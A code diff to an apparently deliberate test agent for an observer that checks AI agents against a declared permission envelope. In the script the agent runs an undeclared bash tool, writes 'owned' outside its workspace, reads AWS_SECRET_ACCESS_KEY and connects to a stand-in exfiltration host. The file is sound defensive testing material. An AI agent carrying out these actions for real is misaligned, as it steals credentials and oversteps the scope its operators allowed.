@@ -1,6 +1,6 @@
 // An example agent that oversteps its envelope (examples/envelope.json) on purpose:
 //  - dispatches a tool the envelope does not declare ("bash"),
-//  - writes outside the workspace and scratch (/tmp/envelope-gate-example-outside.txt),
+//  - writes outside the workspace and scratch (/var/tmp/envelope-gate-example-outside.txt),
 //  - reads AWS_SECRET_ACCESS_KEY (absent from its environment: reading it is still a read),
 //  - connects to exfil.example.net:443.
 // Run it under the observer and check the log (see docs/observer.md, "Quick start").
@@ -35,7 +35,7 @@ function connect(host, port) {
 await dispatch({ name: "read_file", args: { path: new URL(import.meta.url).pathname } });
 await dispatch({ name: "apply_patch", args: { name: "patch.diff", text: "--- a\n+++ b\n" } });
 const secret = process.env.AWS_SECRET_ACCESS_KEY;
-await dispatch({ name: "bash", args: { script: "echo owned > /tmp/envelope-gate-example-outside.txt" } });
+await dispatch({ name: "bash", args: { script: "{ echo owned > /var/tmp/envelope-gate-example-outside.txt; } 2>/dev/null || true" } });
 const outcome = await connect("exfil.example.net", 443);
 await dispatch({ name: "run_tests", args: {} });
 console.log(`agent done (secret ${secret === undefined ? "absent" : "present"}, network ${outcome})`);
